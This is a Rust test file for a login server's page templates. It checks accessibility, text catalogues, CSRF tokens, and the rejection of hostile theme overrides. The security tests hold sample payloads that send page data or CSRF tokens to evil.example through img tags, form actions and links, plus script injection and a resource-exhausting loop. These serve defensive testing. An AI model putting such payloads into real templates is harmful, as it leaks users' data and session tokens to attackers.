use std::path::{Path, PathBuf};

use super::*;
use crate::mail::message::{Message, Proof};

fn shipped() -> Templates {
    Templates::load(&Overrides::none()).unwrap_or_else(|errors| panic!("{}", listed(&errors)))
}

fn listed(errors: &[TemplateError]) -> String {
    errors.iter().map(|error| format!("{error}\n")).collect()
}

fn refused<const N: usize>(files: [(&str, &str); N]) -> Vec<TemplateError> {
    Templates::load(&Overrides::from_files(files)).expect_err("a broken override was accepted")
}

fn repository() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).to_owned()
}

fn frame<'a>(brand: &'a Brand, csrf: Option<&'a str>) -> Frame<'a> {
    let place = Place::SignInHost;
    Frame { brand, language: "en", banner: None, user: None, home: "/", place, csrf }
}

fn password() -> Password {
    Password::samples().remove(0)
}

#[test]
fn every_page_renders_with_every_sample() {
    let samples = shipped().samples();
    assert!(samples.len() > 100, "{}", samples.len());
    for sample in samples {
        let html = sample.html.unwrap();
        let (_, language) = sample.name.rsplit_once('-').unwrap();
        let start = format!("<!doctype html>\n<html lang=\"{language}\" dir=\"ltr\">");
        assert!(html.starts_with(&start), "{}: {html}", sample.name);
        for landmark in ["<header", "<main id=\"main\"", "class=\"skip\"", "<title>"] {
            assert_eq!(html.matches(landmark).count(), 1, "{}: {landmark}", sample.name);
        }
        assert_eq!(html.matches("<h1").count(), 1, "{}", sample.name);
    }
}

/// security.md R20
#[test]
fn no_page_runs_or_loads_anything_and_hostile_text_stays_text() {
    for sample in shipped().samples() {
        let html = sample.html.unwrap().to_ascii_lowercase();
        let html = without_our_script(html);
        for never in ["<script", "style=", "onerror=alert(1)>", "javascript:", "evil.example"] {
            assert!(!html.contains(never), "{}: {never}", sample.name);
        }
        assert_eq!(html.contains("<style>"), sample.name.contains("app-host"), "{}", sample.name);
        if sample.name.contains("hostile") {
            assert!(html.contains("&lt;script&gt;"), "{}", sample.name);
        }
    }
}

/// The one script is a file of ours, in the head of pages that ask for a passkey or search.
fn without_our_script(html: String) -> String {
    let needs = [("passkey", "name=\"ceremony\""), ("search", "type=\"search\"")];
    let ours = needs.into_iter().find(|(_, need)| html.contains(need));
    let Some((name, _)) = ours else { return html };
    let tag = format!("<script src=\"/assets/{name}.");
    match html.find(&tag) < html.find("<body") {
        true => html.replacen(&tag, "", 1),
        false => html,
    }
}

#[test]
fn a_page_on_an_application_host_loads_nothing_at_all() {
    for sample in shipped().samples().iter().filter(|sample| sample.name.contains("app-host")) {
        let html = sample.html.as_ref().unwrap();
        for never in ["<link", "<img", "/assets/", "<form"] {
            assert!(!html.contains(never), "{}: {never}", sample.name);
        }
    }
}

#[test]
fn the_inline_style_is_admitted_by_its_digest() {
    let templates = shipped();
    let samples = templates.samples();
    let page = samples.iter().find(|sample| sample.name.contains("app-host")).unwrap();
    let html = page.html.as_ref().unwrap();
    let style = html.split_once("<style>").unwrap().1.split_once("</style>").unwrap().0;
    let policies = ContentPolicies::new(style);
    assert_eq!(policies.style_source(), templates.policies().style_source());
}

#[test]
fn labels_errors_and_hints_are_tied_to_their_fields() {
    for sample in shipped().samples() {
        let html = sample.html.unwrap();
        let ids: Vec<&str> = values_of(&html, " id=\"");
        let mut seen = ids.clone();
        seen.sort_unstable();
        seen.dedup();
        assert_eq!(seen.len(), ids.len(), "{}: an id twice", sample.name);
        for attribute in ["aria-describedby=\"", "aria-labelledby=\"", " for=\""] {
            for id in values_of(&html, attribute).iter().flat_map(|value| value.split(' ')) {
                assert!(ids.contains(&id), "{}: {attribute}{id}", sample.name);
            }
        }
    }
}

fn values_of<'a>(html: &'a str, attribute: &str) -> Vec<&'a str> {
    let parts = html.split(attribute).skip(1);
    parts.filter_map(|part| part.split_once('"').map(|(value, _)| value)).collect()
}

#[test]
fn every_text_that_a_template_asks_for_exists_and_none_is_left_over() {
    let catalogues = text::catalogues(&Overrides::none()).unwrap();
    let english = catalogues.get("en").unwrap();
    let keys: Vec<&str> = english.keys().collect();
    let call = regex::Regex::new(r#"\bt\(\s*["']([a-z.-]+)["']( ~)?"#).unwrap();
    let mut used = Vec::new();
    for name in Shipped::iter().filter(|name| name.ends_with(".html")) {
        let source = shipped_text(&name).unwrap();
        for found in call.captures_iter(&source) {
            used.push((found[1].to_owned(), found.get(2).is_some()));
        }
    }
    for message in Message::samples("x") {
        let kind = message.kind().word();
        used.push((format!("mail.{kind}.subject"), false));
        if matches!(message.proof(), Some(Proof::Link(_))) {
            used.push((format!("mail.{kind}.action"), false));
        }
    }
    for text in ["language.name", "flow.title.", "field.", "back-to-app."] {
        used.push((text.to_owned(), text.ends_with('.')));
    }
    let answers = |(text, open): &(String, bool), key: &str| {
        key == text || (*open && key.starts_with(text.as_str())) || key == format!("{text}.one")
    };
    for text in &used {
        assert!(keys.iter().any(|key| answers(text, key)), "no text for {text:?}");
    }
    for key in keys {
        assert!(used.iter().any(|text| answers(text, key)), "nobody says `{key}`");
    }
}

#[test]
fn every_shipped_icon_is_used() {
    let pages: String = Shipped::iter()
        .filter(|name| name.ends_with(".html"))
        .filter_map(|name| shipped_text(&name))
        .collect();
    for icon in Shipped::iter() {
        if let Some(name) = icon.strip_prefix("icons/").and_then(|name| name.strip_suffix(".svg")) {
            let quoted = format!("\"{name}\"");
            assert!(pages.contains(&quoted), "{icon}");
        }
    }
}

#[test]
fn a_form_carries_the_token_and_the_context_does_not() {
    let brand = Brand::plain();
    let html = shipped().render(&frame(&brand, Some("t0ken")), &password()).unwrap();
    assert!(html.contains("<input type=\"hidden\" name=\"csrf\" value=\"t0ken\">"), "{html}");
    let peek = "{% extends \"default/password.html\" %}{% block note %}{{ csrf }}{% endblock %}";
    let errors = refused([("password.html", peek)]);
    assert_eq!((errors[0].name.as_str(), errors[0].line), ("password.html", Some(1)));
    let every =
        "{% extends \"default/password.html\" %}{% block note %}{{ debug() }}{% endblock %}";
    let own = Templates::load(&Overrides::from_files([("password.html", every)])).unwrap();
    let html = own.render(&frame(&brand, Some("t0ken")), &password()).unwrap();
    assert_eq!(html.matches("t0ken").count(), 1, "{html}");
}

/// security.md R20: what `form_open` returns is text that a template may look into.
#[test]
fn a_theme_that_takes_a_form_apart_finds_no_token() {
    let brand = Brand::plain();
    for note in [
        "{{ form_open('/x') }}</form><a href=\"https://evil.example/?{{ form_open('/x') | replace('<', '-') }}\">a</a><form method=post action=/x></form>",
        "{{ form_open('/x') }}</form>{% set form = form_open('/x') %}<form method=post></form><p title=\"{{ form[0:999] | upper }}\">",
    ] {
        let source = format!(
            "{{% extends \"default/password.html\" %}}{{% block note %}}{note}{{% endblock %}}"
        );
        let own = Templates::load(&Overrides::from_files([("password.html", source)]));
        let own = own.unwrap_or_else(|errors| panic!("{}", listed(&errors)));
        let html = own.render(&frame(&brand, Some("t0ken")), &password()).unwrap();
        let fields = html.matches("name=\"csrf\" value=\"t0ken\"").count();
        assert_eq!(html.to_lowercase().matches("t0ken").count(), fields, "{html}");
        assert_eq!(fields, 3, "{html}");
    }
}

#[test]
fn a_page_without_a_token_has_no_form() {
    let error = shipped().render(&frame(&Brand::plain(), None), &password()).unwrap_err();
    assert!(error.reason.contains("this page has no form token"), "{error}");
    assert_eq!(error.name, "password.html");
}

#[test]
fn the_example_override_passes_and_shows_its_note() {
    let overrides = Overrides::read(&repository().join("custom-templates")).unwrap();
    let own = Templates::load(&overrides).unwrap_or_else(|errors| panic!("{}", listed(&errors)));
    assert_eq!(own.replaced(), ["login/password.html"]);
    let html = own.render(&frame(&Brand::plain(), Some("t")), &password()).unwrap();
    assert!(html.contains("given to you on paper"), "{html}");
    assert!(
        !shipped()
            .render(&frame(&Brand::plain(), Some("t")), &password())
            .unwrap()
            .contains("paper")
    );
}

#[test]
fn a_broken_override_says_where_and_why() {
    let unknown =
        "{% extends \"default/password.html\" %}\n\n{% block note %}{{ page.nme }}{% endblock %}";
    let errors = refused([("login/password.html", unknown)]);
    assert_eq!(errors.len(), 1, "{}", listed(&errors));
    assert_eq!((errors[0].name.as_str(), errors[0].line), ("login/password.html", Some(3)));
    assert!(errors[0].reason.contains("undefined"), "{}", errors[0]);

    let syntax = refused([("error.html", "<p>\n{% if %}")]);
    assert_eq!((syntax[0].name.as_str(), syntax[0].line), ("error.html", Some(2)));

    let text =
        "{% extends \"default/error.html\" %}{% block head %}{{ t(\"no.such\") }}{% endblock %}";
    assert!(refused([("error.html", text)])[0].reason.contains("there is no text `no.such`"));
}

#[test]
fn all_broken_overrides_are_reported_together() {
    let errors = refused([("error.html", "{{ a }}"), ("loop.html", "{{ b }}")]);
    let names: Vec<&str> = errors.iter().map(|error| error.name.as_str()).collect();
    assert_eq!(names, ["error.html", "loop.html"]);
}

/// security.md R20
#[test]
fn a_hostile_theme_is_refused_as_a_whole() {
    for (note, reason) in [
        ("<script src=/x></script>", "a page holds no <script> element"),
        ("<img src='https://evil.example/?q={{ page.who }}'>", "which is not a file of this theme"),
        ("<form action='https://evil.example'>", "a form must be opened with `form_open(action)`"),
        ("{{ form_open('https://evil.example') }}", "a form goes to a path on this host"),
        ("<!-- {{ form_open('/x') }} -->", "a form must be opened with `form_open(action)`"),
        ("<button formaction='https://evil.example'>", "a page holds no `formaction` attribute"),
        ("<p style='color:red'>", "a page holds no `style` attribute"),
        ("{% for a in range(9999) %}{% for b in range(9999) %}{% endfor %}{% endfor %}", "fuel"),
    ] {
        let source = format!(
            "{{% extends \"default/password.html\" %}}{{% block note %}}{note}{{% endblock %}}"
        );
        let errors = refused([("password.html", source.as_str())]);
        assert!(errors[0].reason.contains(reason), "{note}: {}", listed(&errors));
    }
}

#[test]
fn texts_and_layouts_can_be_overridden_and_other_languages_added() {
    let overrides = Overrides::from_files([
        ("text.en.txt", "password.title = Speak, friend"),
        ("text.ar.txt", "password.title = كلمة السر"),
        (
            "flow/loader.html",
            "{% extends \"default/flow.html\" %}{% block head %}<meta name=\"x\">{% endblock %}",
        ),
    ]);
    let own = Templates::load(&overrides).unwrap_or_else(|errors| panic!("{}", listed(&errors)));
    let brand = Brand::plain();
    let english = own.render(&frame(&brand, Some("t")), &password()).unwrap();
    assert!(
        english.contains("Speak, friend") && english.contains("<meta name=\"x\">"),
        "{english}"
    );
    let arabic = Frame { language: "ar", ..frame(&brand, Some("t")) };
    let arabic = own.render(&arabic, &password()).unwrap();
    assert!(
        arabic.contains("<html lang=\"ar\" dir=\"rtl\">") && arabic.contains("كلمة"),
        "{arabic}"
    );
}

#[test]
fn the_same_page_cannot_be_replaced_twice() {
    let own = "{% extends \"default/password.html\" %}";
    let errors = refused([("login/password.html", own), ("password.html", own)]);
    assert!(errors[0].reason.contains("keep one of the two"), "{}", listed(&errors));
}
